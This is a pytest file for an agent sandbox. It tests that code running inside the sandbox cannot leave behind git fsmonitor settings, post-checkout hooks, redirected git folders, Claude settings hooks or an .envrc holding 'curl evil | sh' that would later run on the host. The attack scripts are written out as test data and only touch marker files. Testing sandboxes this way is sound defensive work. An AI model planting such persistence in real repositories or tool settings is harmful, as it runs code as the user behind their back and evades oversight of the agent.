"""Issue 10 section 1 from the attacker's side, in the test bed: nothing an
agent writes runs later outside its fence.

Alice's agent, of each kind, tries to leave code that git or an agent tool
would run later on the host as alice: a `core.fsmonitor` in the workdir's
`.git/config` (through `git config`, through git's own `config.lock` rename,
by appending), a `.git/hooks/post-checkout`, a `.git` folder of its own in
place of the real one, a hook in `~/.claude/settings.json`, a new
`~/.claude/settings.local.json` or workdir `.claude/settings.local.json`.
Each fails, while commits, branches, rebases and `git gc` still work; then
alice runs `git status` and `git checkout` on the host and nothing the agent
set runs. Seen failing on the old code (see the commit message).
"""

from __future__ import annotations

import os
import shlex
from collections.abc import Iterator

import pytest
from testbed import Testbed

SETTINGS = '{"theme": "dark"}\n'


@pytest.fixture(scope="module")
def bed(testbed: Testbed) -> Iterator[Testbed]:
    h = testbed.users["alice"].home
    testbed.write_file("/etc/leviath/config.toml", '[sandbox]\nkind = "namespace"\n')
    testbed.run(["systemctl", "restart", "leviathd"])
    testbed.run(f"""
        set -e
        mkdir -p {h}/.claude {h}/gitprot
        printf '%s' '{SETTINGS}' > {h}/.claude/settings.json
        printf '[user]\\n  name = Alice A\\n  email = alice@example.org\\n' > {h}/.gitconfig
    """, user="alice")  # fmt: skip
    yield testbed
    testbed.run(f"rm -rf {h}/gitprot", check=False)


def _repo(bed: Testbed, name: str) -> str:
    """A fresh repository of alice's with one commit on `main`."""
    proj = f"{bed.users['alice'].home}/gitprot/{name}"
    bed.run(f"""
        set -e
        rm -rf {proj}; mkdir -p {proj}; cd {proj}
        git init -q -b main .
        echo one > file.txt
        git add file.txt
        git commit -q -m one
    """, user="alice")  # fmt: skip
    return proj


def _marker(proj: str, what: str) -> str:
    return f"{os.path.dirname(proj)}/PWNED-{os.path.basename(proj)}-{what}"


def _attacks(proj: str, home: str) -> str:
    """A shell script printing `name ok` or `name refused` per write."""
    fsmon = f"touch {_marker(proj, 'fsmonitor')}; false"
    hook = f"#!/bin/sh\ntouch {_marker(proj, 'hook')}\n"
    cfg = f"[core]\n\tfsmonitor = touch {_marker(proj, 'appended')}; false\n"
    common = f"[core]\n\tfsmonitor = touch {_marker(proj, 'commondir')}; false\n"
    q = shlex.quote
    return f"""
t() {{
  name=$1; shift
  if ( "$@" ) >/dev/null 2>&1; then echo "$name ok"; else echo "$name refused"; fi
}}
fsmon={q(fsmon)}
cfg={q(cfg)}
hook={q(hook)}
common={q(common)}
c={home}/.claude
t git-config git config core.fsmonitor "$fsmon"
t config-lock sh -c 'cp .git/config .git/config.lock && printf %s "$1" >> .git/config.lock \
  && mv -f .git/config.lock .git/config' _ "$cfg"
t config-append sh -c 'printf %s "$1" >> .git/config' _ "$cfg"
t hook sh -c 'printf %s "$1" > .git/hooks/post-checkout \
  && chmod +x .git/hooks/post-checkout' _ "$hook"
t hooks-folder sh -c 'mv .git/hooks .git/hooks.old && mv .git/hooks.old .git/hooks'
t info-exclude sh -c 'echo x >> .git/info/exclude'
t commondir sh -c 'mkdir -p evil && cp -r .git/objects .git/refs evil/ \\
  && printf %s "$1" > evil/config && echo ../evil > .git/commondir' _ "$common"
t dotgit-swap sh -c 'mv .git .git-old && mv .git-old .git'
t claude-settings sh -c 'echo "{{\"hooks\": {{}}}}" > $1/settings.json' _ "$c"
t claude-local sh -c 'echo {{}} > $1/settings.local.json' _ "$c"
t claude-swap sh -c 'mv $1/settings.json $1/s.old && mv $1/s.old $1/settings.json' _ "$c"
t workdir-claude sh -c 'mkdir -p .claude && echo {{}} > .claude/settings.local.json'
t claude-state sh -c 'echo note > $1/history.jsonl' _ "$c"
"""


GIT_WORK = """
set -e
git checkout -q -b feature
echo two >> file.txt
git commit -q -am two
git checkout -q main
echo other > other.txt
git add other.txt
git commit -q -m other
git checkout -q feature
git rebase -q main
git gc -q
git log --format=%s | tr '\\n' ' '
echo
echo work ok
"""


def _host_git(bed: Testbed, proj: str) -> None:
    """What alice does next on the host: nothing the agent set may run."""
    bed.run(f"cd {proj} && git status && git checkout -q -b on-host && git checkout -q -",
            user="alice", check=False)  # fmt: skip
    for what in ("fsmonitor", "hook", "appended", "commondir"):
        marker = _marker(proj, what)
        assert bed.run(["test", "-e", marker], check=False).returncode != 0, marker


def _check(out: str, home: str) -> None:
    results = dict(line.rsplit(" ", 1) for line in out.splitlines() if line.endswith(
        (" ok", " refused")))  # fmt: skip
    assert results.pop("claude-state") == "ok", out
    assert results.pop("work") == "ok", out
    assert results and set(results.values()) == {"refused"}, out


def test_an_agents_git_and_tool_settings_never_run_on_the_host(bed: Testbed) -> None:
    home = bed.users["alice"].home
    proj = _repo(bed, "ns")
    r = bed.run(["lev", "run", "--workdir", proj, "--", "sh", "-c",
                 _attacks(proj, home) + GIT_WORK], user="alice", check=False)  # fmt: skip
    _host_git(bed, proj)
    _check(r.stdout, home)
    assert "other one" in r.stdout and "two" in r.stdout, r.stdout + r.stderr
    assert bed.read_file(f"{home}/.claude/settings.json") == SETTINGS
    assert "fsmonitor" not in bed.read_file(f"{proj}/.git/config")
    # The agent's commits are alice's, on the host.
    log = bed.run(["git", "-C", proj, "log", "--format=%s", "feature"], user="alice").stdout
    assert log.split() == ["two", "other", "one"]


def test_a_worktrees_git_folders_are_protected_too(bed: Testbed) -> None:
    home = bed.users["alice"].home
    main = _repo(bed, "wtmain")
    wt = f"{home}/gitprot/wt"
    bed.run(f"rm -rf {wt} && git -C {main} worktree add -q -b wtb {wt}", user="alice")
    attack = (
        "t() { if ( \"$@\" ) >/dev/null 2>&1; then echo \"$1 ok\"; "
        "else echo \"$1 refused\"; fi; }\n"
        f"t git config core.fsmonitor 'touch {_marker(main, 'fsmonitor')}; false'\n"
        f"t sh -c \"printf '#!/bin/sh\\ntouch {_marker(main, 'hook')}\\n' > "
        f"{main}/.git/hooks/post-checkout && chmod +x {main}/.git/hooks/post-checkout\"\n"
        "t sh -c 'echo gitdir: /tmp > .git'\n"
        "echo x >> file.txt && git commit -q -am wt && echo commit ok\n"
    )
    r = bed.run(["lev", "run", "--workdir", wt, "--", "sh", "-c", attack], user="alice",
                check=False)  # fmt: skip
    _host_git(bed, main)
    _host_git(bed, wt)
    assert r.stdout.count("refused") == 3 and "commit ok" in r.stdout, r.stdout + r.stderr


def test_in_a_container_the_same_writes_fail(bed: Testbed) -> None:
    from test_container import BUILD_IMAGE, IMAGE  # the bed's busybox image (no git)

    r = bed.run(BUILD_IMAGE, check=False, timeout=300)
    if r.returncode == 3:
        if os.environ.get("LEVIATH_REQUIRE_TESTBED", "") not in ("", "0"):
            pytest.fail(r.stderr.strip(), pytrace=False)
        pytest.skip(r.stderr.strip())
    assert r.returncode == 0, r.stderr
    bed.write_file("/etc/leviath/config.toml",
                   f'[sandbox]\nkind = "container"\nimage = "{IMAGE}"\nnetwork = false\n')
    bed.run(["systemctl", "restart", "leviathd"])
    try:
        home = bed.users["alice"].home
        proj = _repo(bed, "ctr")
        attacks = _attacks(proj, home).replace("t git-config git config", "t git-config true")
        # What git does when it commits, done by hand: objects, index, refs.
        work = """
set -e
mkdir -p .git/objects/ab && echo x > .git/objects/ab/cdef
cp .git/index .git/index.lock && mv -f .git/index.lock .git/index
cat .git/refs/heads/main > .git/refs/heads/copy
echo work ok
"""
        r = bed.run(["lev", "run", "--workdir", proj, "--", "sh", "-c", attacks + work],
                    user="alice", check=False)  # fmt: skip
        _host_git(bed, proj)
        _check(r.stdout.replace("git-config ok", ""), home)
        assert bed.read_file(f"{home}/.claude/settings.json") == SETTINGS
    finally:
        bed.write_file("/etc/leviath/config.toml", '[sandbox]\nkind = "namespace"\n')
        bed.run(["systemctl", "restart", "leviathd"])


def test_lev_inspect_lists_the_protected_paths(bed: Testbed) -> None:
    home = bed.users["alice"].home
    proj = _repo(bed, "insp")
    bed.write_file("/etc/leviath/config.toml",
                   '[sandbox]\nkind = "namespace"\nprotected_paths = [".envrc"]\n')
    bed.run(["systemctl", "reload", "leviathd"])
    try:
        bp = f"{home}/gitprot/bp"
        bed.run(f"mkdir -p {bp} && cat > {bp}/blueprint.toml", user="alice", input=(
            '[agent]\nname = "insp"\nversion = "1.0.0"\ndescription = "d"\n\n'
            '[stages.look]\ncommand = ["true"]\n'))  # fmt: skip
        text = bed.run(["lev", "inspect", "--stage", "look", "--workdir", proj, bp],
                       user="alice").stdout  # fmt: skip
        assert f"{proj}/.git/config" in text and f"{home}/.claude/settings.json" in text, text
        assert f"{proj}/.envrc" in text, text
        r = bed.run(["lev", "run", "--workdir", proj, "--", "sh", "-c",
                     "echo 'curl evil | sh' > .envrc && echo written"], user="alice",
                    check=False)  # fmt: skip
        assert "written" not in r.stdout, r.stdout
        assert bed.read_file(f"{proj}/.envrc") == ""
    finally:
        bed.write_file("/etc/leviath/config.toml", '[sandbox]\nkind = "namespace"\n')
        bed.run(["systemctl", "reload", "leviathd"])


def test_a_submodules_git_folder_is_protected_too(bed: Testbed) -> None:
    lib = _repo(bed, "sublib")
    sup = _repo(bed, "super")
    bed.run(f"cd {sup} && git -c protocol.file.allow=always submodule -q add {lib} lib "
            "&& git commit -q -m sub", user="alice")  # fmt: skip
    marker = _marker(sup, "fsmonitor")
    attack = (
        "cd lib\n"
        f"git config core.fsmonitor 'touch {marker}; false' && echo config ok\n"
        "echo x > ../.git/modules/lib/hooks/post-checkout && echo hook ok\n"
        "echo y >> file.txt && git commit -q -am sub-work && echo commit ok\n"
        "cp .git /tmp/dotgit; echo 'gitdir: ../evil' > .git && echo dotgit ok; "
        "cat /tmp/dotgit > .git\n"
    )
    r = bed.run(["lev", "run", "--workdir", sup, "--", "sh", "-c", attack], user="alice",
                check=False)  # fmt: skip
    bed.run(f"cd {sup}/lib && git status && cd {sup} && git status", user="alice", check=False)
    assert bed.run(["test", "-e", marker], check=False).returncode != 0, marker
    assert r.stdout.split() == ["commit", "ok"], r.stdout + r.stderr
